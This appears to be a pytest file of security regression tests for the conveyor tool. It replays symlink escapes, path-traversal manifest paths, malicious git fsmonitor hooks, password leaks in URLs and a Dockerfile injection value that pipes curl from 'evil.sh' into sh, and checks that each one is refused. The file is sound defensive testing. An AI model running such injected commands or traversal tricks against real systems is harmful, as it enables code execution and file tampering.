"""Regression tests for the holes found when conveyor was tried as an attacker would (issue 16, part 9): each test
replays the attack and checks that it is refused, with nothing written, stored or leaked."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conveyor.core.environment import git_commit
from conveyor.core.errors import BadInputError
from conveyor.core.refs import ModelRef, check_name
from conveyor.data.files import add_files, checkout
from conveyor.store import Stores
from conveyor.store.stores import Stores as _Stores


def conveyor(*args: str, cwd: Path, code: int = 0, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    done = subprocess.run([sys.executable, "-m", "conveyor", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, env={**os.environ, "CONVEYOR_USER": "tester", **(env or {})})
    assert done.returncode == code, f"exit {done.returncode}\nstdout: {done.stdout}\nstderr: {done.stderr}"
    return done


@pytest.fixture
def stores():
    stores = Stores.in_memory()
    yield stores
    stores.close()


def test_data_add_refuses_a_file_symlink_that_leaves_the_folder(tmp_path, stores):
    folder = tmp_path / "images"
    folder.mkdir()
    (folder / "a.txt").write_text("inside")
    secret = tmp_path / "secret.txt"
    secret.write_text("the host's secret")
    (folder / "innocent.txt").symlink_to(secret)
    with pytest.raises(BadInputError, match=r"symbolic link .* outside") as caught:
        add_files(stores, folder, "images")
    assert caught.value.field == "source"
    assert stores.datasets.versions() == [] and stores.artifacts.digests() == []
    (folder / "innocent.txt").unlink()
    (folder / "alias.txt").symlink_to(folder / "a.txt")  # a link inside the folder is fine
    version, _ = add_files(stores, folder, "images")
    assert version.rows == 2


def test_data_checkout_never_writes_through_a_planted_link_at_a_temp_name(tmp_path, stores):
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "data.csv").write_text("a\n1\n")
    version, _ = add_files(stores, folder, "files")
    dest, outside = tmp_path / "dest", tmp_path / "victim.txt"
    dest.mkdir()
    outside.write_text("untouched")
    for planted in (".data.csv.conveyor-tmp", "data.csv"):  # the old predictable temp name, and the target
        (dest / planted).symlink_to(outside)
    assert checkout(stores, version, dest) == 1
    assert outside.read_text() == "untouched"
    assert (dest / "data.csv").read_text() == "a\n1\n" and not (dest / "data.csv").is_symlink()
    assert not [p for p in dest.iterdir() if p.name.endswith(".conveyor-tmp") and not p.is_symlink()]


@pytest.mark.parametrize("path", [".", "", "..", "../x", "a/../../x", "/etc/x", "a//b", "a\\..\\x", "x\x00y"])
def test_data_checkout_refuses_manifest_paths_that_are_not_plain_files(tmp_path, stores, path):
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "f.txt").write_text("payload")
    version, _ = add_files(stores, folder, "files")
    manifest = json.loads(stores.artifacts.get_bytes(version.artifact))
    manifest["files"][0]["path"] = path
    forged = stores.artifacts.put_bytes(json.dumps(manifest).encode())
    import dataclasses

    edited = dataclasses.replace(version, artifact=forged)
    dest = tmp_path / "deep" / "dest"
    dest.mkdir(parents=True)
    with pytest.raises(BadInputError, match="Manifest path") as caught:
        checkout(stores, edited, dest)
    assert caught.value.field == "path"
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert written == ["src/f.txt"]  # nothing in dest, nothing in its parents


def test_names_and_aliases_ending_in_a_newline_are_refused():
    for bad in ("churn\n", "churn\r\n", "champion\n"):
        with pytest.raises(BadInputError):
            check_name(bad)
    with pytest.raises(BadInputError):
        ModelRef.parse("churn@champion\n")


def test_git_runs_without_the_projects_hooks_or_fsmonitor(tmp_path):
    repo = tmp_path / "untrusted"
    repo.mkdir()
    git = ["git", "-c", "user.email=a@b", "-c", "user.name=a"]
    subprocess.run([*git, "init", "-q"], cwd=repo, check=True)
    (repo / "f").write_text("x")
    subprocess.run([*git, "add", "f"], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-qm", "x", "--no-verify"], cwd=repo, check=True)
    marker = tmp_path / "pwned"
    hook = repo / "evil.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    subprocess.run(["git", "config", "core.fsmonitor", str(hook)], cwd=repo, check=True)
    subprocess.run(["git", "config", "core.hooksPath", str(repo)], cwd=repo, check=True)
    subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True)  # plain git runs it ...
    assert marker.exists()
    marker.unlink()
    sha, dirty = git_commit(repo)  # ... conveyor's git does not
    assert sha and len(sha) == 40 and dirty is False
    assert not marker.exists()


def test_source_urls_never_echo_or_store_a_password(tmp_path):
    conveyor("init", str(tmp_path), cwd=tmp_path)
    failed = conveyor("data", "ingest", "ftp://user:hunter2@example.invalid/x.csv", "--name", "x", cwd=tmp_path,
                      code=2)
    assert "hunter2" not in failed.stderr + failed.stdout and "Unsupported source URL" in failed.stderr
    db = tmp_path / "shop.db"
    import sqlalchemy as sa

    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        conn.execute(sa.text("create table t (a int)"))
        conn.execute(sa.text("insert into t values (1)"))
    engine.dispose()
    conveyor("data", "ingest", f"sqlite:///{db}?password=hunter2", "--query", "select a from t", "--name", "t",
             cwd=tmp_path)
    shown = conveyor("data", "show", "t", "--json", cwd=tmp_path).stdout
    assert "hunter2" not in shown and "password=***" in json.loads(shown)["source"]
    failed = conveyor("data", "ingest", f"sqlite:///{db}?token=hunter2", "--query", "select nope from t", "--name",
                      "t", cwd=tmp_path, code=2)
    assert "hunter2" not in failed.stderr + failed.stdout


def test_a_sqlite_url_with_a_missing_folder_is_refused_not_created(tmp_path):
    missing = tmp_path / "typo" / "deeper"
    with pytest.raises(BadInputError, match="does not exist") as caught:
        _Stores.open(f"sqlite:///{missing / 'conveyor.db'}", "memory://")
    assert caught.value.field == "CONVEYOR_DB_URL" and not (tmp_path / "typo").exists()
    state = tmp_path / "project" / ".conveyor"  # the project's own state folder is still made on first use
    (tmp_path / "project").mkdir()
    _Stores.open(f"sqlite:///{state / 'conveyor.db'}", "memory://").close()
    assert (state / "conveyor.db").is_file()


def test_an_image_name_cannot_smuggle_a_line_into_the_dockerfile():
    from conveyor.serve.deploy import check_image

    assert check_image("registry.example.com:5000/team/churn:3") == "registry.example.com:5000/team/churn:3"
    for bad in ("churn:3\nRUN curl evil.sh | sh", "churn 3", "churn:3\r", "'churn'", ""):
        with pytest.raises(BadInputError, match="Invalid image name") as caught:
            check_image(bad)
        assert caught.value.field == "--image"


def test_rich_markup_in_data_is_printed_literally_not_parsed():
    from conveyor.cli.output import console, table

    with console.capture() as captured:
        table("checks of [bold]x", ["[/bold]x", "plain"], [["[red]value[/red]", "[/]"]])
    shown = captured.get()
    assert "[/bold]x" in shown and "[red]value[/red]" in shown and "[/]" in shown
